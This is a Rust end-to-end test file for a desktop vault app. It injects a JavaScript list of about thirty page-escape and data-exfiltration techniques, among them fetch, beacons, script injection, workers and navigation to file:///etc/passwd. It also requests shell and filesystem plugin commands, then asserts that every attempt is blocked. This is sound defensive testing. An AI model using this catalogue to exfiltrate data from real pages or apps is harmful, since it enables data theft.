//! A page that turned against its owner: what it can ask for, and where it can send it.

use crate::create_vault;
use serde_json::json;
use sotto_e2e::{Home, Window};
use std::io::Read;
use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

/// Tries every way out that a page has, each towards `arguments[0]`.
const ESCAPE_ATTEMPTS: &str = r"
    const [to, done] = arguments;
    const attempts = [
        () => fetch(to), () => fetch(to, { mode: 'no-cors' }),
        () => { const x = new XMLHttpRequest(); x.open('GET', to); x.send(); },
        () => { new Image().src = to; },
        () => new WebSocket(to.replace('http', 'ws')),
        () => new EventSource(to),
        () => navigator.sendBeacon(to, 'x'),
        () => window.open(to),
        () => { const a = document.createElement('a'); a.href = to; a.ping = to; a.click(); },
        () => { const f = document.createElement('form'); f.action = to; document.body.append(f); f.submit(); },
        ...['script', 'iframe', 'img', 'video', 'audio', 'embed', 'object'].map((tag) => () => {
            const element = document.createElement(tag);
            element[tag === 'object' ? 'data' : 'src'] = to;
            document.body.append(element);
        }),
        ...['stylesheet', 'prefetch', 'preload', 'preconnect', 'dns-prefetch', 'icon', 'manifest'].map((rel) => () => {
            const link = document.createElement('link');
            [link.rel, link.href, link.as] = [rel, to, 'image'];
            document.head.append(link);
        }),
        () => { const s = document.createElement('style'); s.textContent = `body{background:url(${to})}`; document.head.append(s); },
        () => { document.body.style.backgroundImage = `url(${to})`; },
        () => new Worker(to),
        () => import(to),
        () => navigator.serviceWorker.register(to),
        () => { location.href = to; },
        () => { location.assign('file:///etc/passwd'); },
        () => { location.assign('data:text/html,gone'); },
        () => { const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0;url=${to}`; document.head.append(m); },
    ];
    for (const attempt of attempts) {
        try { Promise.resolve(attempt()).catch(() => undefined); } catch { /* refused at once */ }
    }
    setTimeout(done, 1500, attempts.length);
";

/// Calls a command and gives its error, or `allowed`.
const ASK_FOR: &str = r"
    const [command, done] = arguments;
    window.__TAURI_INTERNALS__.invoke(command, {}).then(() => done('allowed'), (error) => done(JSON.stringify(error)));
";

/// A server that only counts who comes.
fn listener() -> (String, Arc<AtomicUsize>) {
    let server = TcpListener::bind("127.0.0.1:0").expect("a port");
    let address = format!("http://{}/", server.local_addr().expect("an address"));
    let visits = Arc::new(AtomicUsize::new(0));
    let counted = Arc::clone(&visits);
    std::thread::spawn(move || {
        for mut visitor in server.incoming().flatten() {
            counted.fetch_add(1, Ordering::SeqCst);
            let _ = visitor.read(&mut [0; 512]);
        }
    });
    (address, visits)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_page_reaches_no_network_and_goes_nowhere() {
    let window = Window::open(Home::new()).await;
    create_vault(&window).await;
    let here = window.client.current_url().await.expect("an address");
    assert_eq!((here.scheme(), here.host_str()), ("tauri", Some("localhost")));
    let (outside, visits) = listener();
    let tried = window.client.execute_async(ESCAPE_ATTEMPTS, vec![json!(outside)]).await;
    assert!(tried.expect("the attempts run").as_u64() > Some(25));
    tokio::time::sleep(Duration::from_secs(1)).await;
    assert_eq!(visits.load(Ordering::SeqCst), 0, "something left the page");
    assert_eq!(window.client.current_url().await.expect("an address"), here, "the page was left");
    assert_eq!(window.client.windows().await.expect("windows").len(), 1, "a window was opened");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_page_may_ask_for_nothing_but_our_commands() {
    let window = Window::open(Home::new()).await;
    window.sees("Begin").await;
    for command in [
        "plugin:fs|read_text_file",
        "plugin:dialog|open",
        "plugin:shell|execute",
        "plugin:window|set_title",
        "plugin:window|create",
        "plugin:webview|create_webview_window",
        "plugin:event|listen",
        "plugin:event|emit",
        "plugin:path|resolve_directory",
        "plugin:app|name",
        "plugin:image|from_path",
        "plugin:resources|close",
    ] {
        let answer = window.client.execute_async(ASK_FOR, vec![json!(command)]).await.expect("an answer");
        let answer = answer.as_str().unwrap_or_default().to_owned();
        assert!(answer.contains("not allowed") || answer.contains("not found"), "{command}: {answer}");
    }
    let ours = window.client.execute_async(ASK_FOR, vec![json!("today")]).await.expect("an answer");
    assert!(ours.as_str().unwrap_or_default().contains("\"locked\""), "{ours}");
    assert_eq!(window.ask("return typeof window.__TAURI__", Vec::new()).await, "undefined");
    assert_eq!(
        window.ask("try { eval('1'); return 'ran' } catch { return 'refused' }", Vec::new()).await,
        "refused"
    );
}
